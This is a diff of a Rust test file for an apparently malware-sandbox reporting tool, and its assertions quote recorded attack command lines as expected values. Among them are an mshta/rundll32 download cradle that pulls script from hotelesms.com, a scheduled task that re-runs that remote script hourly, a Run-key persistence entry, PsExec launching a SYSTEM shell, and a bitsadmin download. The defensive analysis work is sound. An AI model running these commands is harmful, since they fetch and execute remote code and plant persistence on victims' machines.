@@ -4,8 +4,10 @@
 mod common;
 
 use common::*;
-use sandscope_model::{DnsLookup, DroppedFile, IpTraffic, RegistrySet, ScheduledTask, ServiceDetail};
-use sandscope_report::{Sha256Origin, SampleSelector};
+use sandscope_model::{
+    DnsLookup, DroppedFile, IpTraffic, RegistrySet, ScheduledTask, ServiceDetail,
+};
+use sandscope_report::{SampleSelector, Sha256Origin};
 
 fn strings(items: &[&str]) -> Vec<String> {
     items.iter().map(|s| s.to_string()).collect()
@@ -16,14 +18,27 @@ fn case_a_mshta_cradle_with_scheduled_task() {
     let built = report(MSHTA, SampleSelector::Auto);
     let a = &built.behaviour.attributes;
     // The sample is detected as the Desktop shell that started the chain.
-    assert!(built.notes[0].contains("sample detected automatically"), "{:?}", built.notes);
-    assert_eq!(chains(&a.processes_tree), vec![strings(&["3548", "1532", "2920", "2432", "3772"])]);
-    assert_eq!(find(&a.processes_tree, "3548").name, r#""cmd.exe" /s /k pushd "C:\Users\IEUser\Desktop""#);
+    assert!(
+        built.notes[0].contains("sample detected automatically"),
+        "{:?}",
+        built.notes
+    );
+    assert_eq!(
+        chains(&a.processes_tree),
+        vec![strings(&["3548", "1532", "2920", "2432", "3772"])]
+    );
+    assert_eq!(
+        find(&a.processes_tree, "3548").name,
+        r#""cmd.exe" /s /k pushd "C:\Users\IEUser\Desktop""#
+    );
     assert_eq!(
         find(&a.processes_tree, "1532").name,
         r#"cmd.exe  /C rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();h=new%%20ActiveXObject("WScript.Shell").run("mshta https://hotelesms.com/talsk.txt",0,true);"#
     );
-    assert_eq!(find(&a.processes_tree, "2432").name, r#""C:\Windows\System32\mshta.exe" https://hotelesms.com/talsk.txt"#);
+    assert_eq!(
+        find(&a.processes_tree, "2432").name,
+        r#""C:\Windows\System32\mshta.exe" https://hotelesms.com/talsk.txt"#
+    );
     let schtasks = r#""C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://hotelesms.com/Injection.txt" /F "#;
     assert_eq!(find(&a.processes_tree, "3772").name, schtasks);
     assert!(a.command_executions.contains(&schtasks.to_string()));
@@ -37,7 +52,10 @@ fn case_a_mshta_cradle_with_scheduled_task() {
         }]
     );
     // The scheduler's write of the task file is attributed on the sample's behalf.
-    assert!(a.files_written.contains(&r"%WINDIR%\System32\Tasks\MSOFFICE_".to_string()));
+    assert!(
+        a.files_written
+            .contains(&r"%WINDIR%\System32\Tasks\MSOFFICE_".to_string())
+    );
     let tcp = |ip: &str, port| IpTraffic {
         destination_ip: ip.into(),
         destination_port: Some(port),
@@ -45,7 +63,11 @@ fn case_a_mshta_cradle_with_scheduled_task() {
     };
     assert_eq!(
         a.ip_traffic,
-        vec![tcp("108.179.232.58", 443), tcp("105.73.6.112", 80), tcp("105.73.6.105", 80)]
+        vec![
+            tcp("108.179.232.58", 443),
+            tcp("105.73.6.112", 80),
+            tcp("105.73.6.105", 80)
+        ]
     );
     assert!(a.dns_lookups.is_empty());
     assert!(a.tags.contains(&"PERSISTENCE".to_string()));
@@ -59,11 +81,20 @@ fn case_b_appdata_drops_and_xml_task_two_trees() {
     let built = report(RUNDLL_SCHTASK, SampleSelector::Everything);
     let a = &built.behaviour.attributes;
     let all = chains(&a.processes_tree);
-    assert!(all.contains(&strings(&["7624", "3396", "5572", "8572"])), "{all:?}");
-    assert!(all.contains(&strings(&["1216", "7552", "9116", "7504", "8920"])), "{all:?}");
+    assert!(
+        all.contains(&strings(&["7624", "3396", "5572", "8572"])),
+        "{all:?}"
+    );
+    assert!(
+        all.contains(&strings(&["1216", "7552", "9116", "7504", "8920"])),
+        "{all:?}"
+    );
     assert_eq!(find(&a.processes_tree, "1216").name, "?");
     // The command line, as its child logged it (trailing space included).
-    assert_eq!(find(&a.processes_tree, "7624").name, r"c:\Users\Public\test.tmp ");
+    assert_eq!(
+        find(&a.processes_tree, "7624").name,
+        r"c:\Users\Public\test.tmp "
+    );
     assert_eq!(
         find(&a.processes_tree, "7552").name,
         r"Rundll32.exe shell32.dll,Control_RunDLL C:\PROGRA~3\DATAUS~1.DLL 4624665222"
@@ -86,17 +117,26 @@ fn case_b_appdata_drops_and_xml_task_two_trees() {
     ] {
         assert!(a.files_written.contains(&file.to_string()), "{file}");
     }
-    assert_eq!(a.raw_forms[r"%APPDATA%\data.enc"], vec![r"C:\Users\IEUser\AppData\Roaming\data.enc"]);
+    assert_eq!(
+        a.raw_forms[r"%APPDATA%\data.enc"],
+        vec![r"C:\Users\IEUser\AppData\Roaming\data.enc"]
+    );
     assert!(a.ip_traffic.is_empty());
     assert!(a.dns_lookups.is_empty());
 
     // Attributed: the sample is the RAR SFX in Users\Public; its tree and task, not the other.
     let auto = report(RUNDLL_SCHTASK, SampleSelector::Auto);
     let a = &auto.behaviour.attributes;
-    assert_eq!(chains(&a.processes_tree), vec![strings(&["7624", "3396", "5572", "8572"])]);
+    assert_eq!(
+        chains(&a.processes_tree),
+        vec![strings(&["7624", "3396", "5572", "8572"])]
+    );
     assert_eq!(a.scheduled_tasks_created.len(), 1);
     assert!(!a.files_written.contains(&r"%APPDATA%\data.enc".to_string()));
-    assert!(a.files_written.contains(&r"%TEMP%\sduchxll.tmp".to_string()));
+    assert!(
+        a.files_written
+            .contains(&r"%TEMP%\sduchxll.tmp".to_string())
+    );
 }
 
 #[test]
@@ -129,14 +169,21 @@ fn case_c_psexec_service_pipes_dns() {
             file_type: Some("PE_EXE".into()),
         }]
     );
-    assert_eq!(a.raw_forms[r"%WINDIR%\PSEXESVC.exe"], vec![r"C:\Windows\PSEXESVC.exe"]);
+    assert_eq!(
+        a.raw_forms[r"%WINDIR%\PSEXESVC.exe"],
+        vec![r"C:\Windows\PSEXESVC.exe"]
+    );
     // The service binary, adopted because the sample wrote it, starts the SYSTEM shell.
     let service = find(&a.processes_tree, "4752");
     assert_eq!(service.name, r"C:\Windows\PSEXESVC.exe");
     assert_eq!(service.children.len(), 1);
     assert_eq!(service.children[0].process_id, "540");
     assert_eq!(service.children[0].name, r#""cmd" "#);
-    assert!(find(&a.processes_tree, "2124").name.starts_with("PsExec64.exe  -i -s cmd"));
+    assert!(
+        find(&a.processes_tree, "2124")
+            .name
+            .starts_with("PsExec64.exe  -i -s cmd")
+    );
     assert_eq!(
         a.named_pipes,
         strings(&[
@@ -161,11 +208,18 @@ fn case_c_psexec_service_pipes_dns() {
 fn case_d_fake_flash_update() {
     let built = report(FLASH, SampleSelector::Auto);
     let a = &built.behaviour.attributes;
-    assert!(built.notes[0].contains(r"C:\Users\IEUser\Downloads\Flash_update.exe"), "{:?}", built.notes);
+    assert!(
+        built.notes[0].contains(r"C:\Users\IEUser\Downloads\Flash_update.exe"),
+        "{:?}",
+        built.notes
+    );
     assert_eq!(built.sha256_origin, Sha256Origin::RootHashes);
     assert_eq!(
         chains(&a.processes_tree),
-        vec![strings(&["2680", "2992", "3076"]), strings(&["2680", "3188"])]
+        vec![
+            strings(&["2680", "2992", "3076"]),
+            strings(&["2680", "3188"])
+        ]
     );
     assert_eq!(
         a.files_dropped,
@@ -184,17 +238,27 @@ fn case_d_fake_flash_update() {
     );
     assert_eq!(
         a.files_attribute_changed,
-        strings(&[r"%APPDATA%\NvSmart.exe", r"%APPDATA%\NvSmartMax.dll", r"%APPDATA%\NvSmartMax.dll.url"])
+        strings(&[
+            r"%APPDATA%\NvSmart.exe",
+            r"%APPDATA%\NvSmartMax.dll",
+            r"%APPDATA%\NvSmartMax.dll.url"
+        ])
     );
     assert!(a.registry_keys_set.contains(&RegistrySet {
         key: r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\360v".into(),
         value: Some(r"C:\Users\IEUser\AppData\Roaming\svchost.exe".into()),
     }));
-    assert!(a.modules_loaded.contains(&r"%APPDATA%\NvSmartMax.dll".to_string()));
+    assert!(
+        a.modules_loaded
+            .contains(&r"%APPDATA%\NvSmartMax.dll".to_string())
+    );
     assert!(a.command_executions.contains(
         &r#""C:\Windows\System32\cmd.exe" /c del /q "C:\Users\IEUser\Downloads\Flash_update.exe" "#.to_string()
     ));
-    assert_eq!(a.processes_terminated, strings(&[r"%SAMPLEPATH%\Flash_update.exe"]));
+    assert_eq!(
+        a.processes_terminated,
+        strings(&[r"%SAMPLEPATH%\Flash_update.exe"])
+    );
     for tag in ["PERSISTENCE", "SELF_DELETE", "EXECUTES_DROPPED_FILE"] {
         assert!(a.tags.contains(&tag.to_string()), "{tag} in {:?}", a.tags);
     }
@@ -214,9 +278,18 @@ fn case_e_apt10_service_and_hollowing() {
         }]
     );
     // The SYSTEM copy started by services.exe is adopted, with the svchost it hollows.
-    assert_eq!(chains(&a.processes_tree), vec![strings(&["3836"]), strings(&["3884", "3908"])]);
-    assert_eq!(find(&a.processes_tree, "3908").name, r"C:\Windows\system32\svchost.exe");
-    assert_eq!(a.processes_injected, strings(&[r"%WINDIR%\System32\svchost.exe"]));
+    assert_eq!(
+        chains(&a.processes_tree),
+        vec![strings(&["3836"]), strings(&["3884", "3908"])]
+    );
+    assert_eq!(
+        find(&a.processes_tree, "3908").name,
+        r"C:\Windows\system32\svchost.exe"
+    );
+    assert_eq!(
+        a.processes_injected,
+        strings(&[r"%WINDIR%\System32\svchost.exe"])
+    );
     assert_eq!(a.modules_loaded, strings(&[r"%SAMPLEPATH%\jli.dll"]));
     // rec 11 is spooler noise, not the sample's.
     assert!(!json(&built.behaviour).to_lowercase().contains("spoolsv"));
@@ -226,7 +299,10 @@ fn case_e_apt10_service_and_hollowing() {
 fn case_f_cape_bits_run_without_the_sandbox() {
     let built = report(CAPE_BITS, SampleSelector::Auto);
     let a = &built.behaviour.attributes;
-    assert_eq!(chains(&a.processes_tree), vec![strings(&["6264", "7560", "7888"])]);
+    assert_eq!(
+        chains(&a.processes_tree),
+        vec![strings(&["6264", "7560", "7888"])]
+    );
     let bitsadmin = r"bitsadmin  /transfer myDownloadJob /download /priority normal http://www.example.com/package.zip C:\\Users\\buddy\\testfile2.txt";
     assert_eq!(
         a.command_executions,
@@ -238,13 +314,28 @@ fn case_f_cape_bits_run_without_the_sandbox() {
     );
     // BITS writes the job's staging file on bitsadmin's behalf.
     assert_eq!(a.files_written, strings(&[r"%USERPROFILE%\BIT3E53.tmp"]));
-    assert_eq!(a.raw_forms[r"%USERPROFILE%\BIT3E53.tmp"], vec![r"C:\Users\buddy\BIT3E53.tmp"]);
+    assert_eq!(
+        a.raw_forms[r"%USERPROFILE%\BIT3E53.tmp"],
+        vec![r"C:\Users\buddy\BIT3E53.tmp"]
+    );
     // None of the sandbox: monitor pipes, CAPE's files, its injections, log clearing, BAM.
     assert!(a.named_pipes.is_empty(), "{:?}", a.named_pipes);
     assert!(a.processes_injected.is_empty());
     assert!(a.registry_keys_set.is_empty(), "{:?}", a.registry_keys_set);
     let text = json(&built.behaviour);
-    for noise in ["hwLAteWXHD", "GEBFZjLqtOd", "65n4hwlw", "uLtpDoL", "capemon", "CapeOutput", "PPLinject", "wevtutil", "BLxTMNGr", "WaaSMedic", "conhost"] {
+    for noise in [
+        "hwLAteWXHD",
+        "GEBFZjLqtOd",
+        "65n4hwlw",
+        "uLtpDoL",
+        "capemon",
+        "CapeOutput",
+        "PPLinject",
+        "wevtutil",
+        "BLxTMNGr",
+        "WaaSMedic",
+        "conhost",
+    ] {
         assert!(!text.contains(noise), "{noise} leaked into the report");
     }
     // `net stop/start BITS` and `sc config BITS type= own` are the CAPE analyser restarting
@@ -255,7 +346,10 @@ fn case_f_cape_bits_run_without_the_sandbox() {
     // The same log with attribution off does show them.
     let everything = report(CAPE_BITS, SampleSelector::Everything);
     let all = &everything.behaviour.attributes;
-    assert!(all.command_executions.contains(&"sc config BITS type= own".to_string()));
+    assert!(
+        all.command_executions
+            .contains(&"sc config BITS type= own".to_string())
+    );
     assert!(all.services_started.contains(&"BITS".to_string()));
     assert!(all.named_pipes.iter().any(|p| p == r"\hwLAteWXHD"));
 }
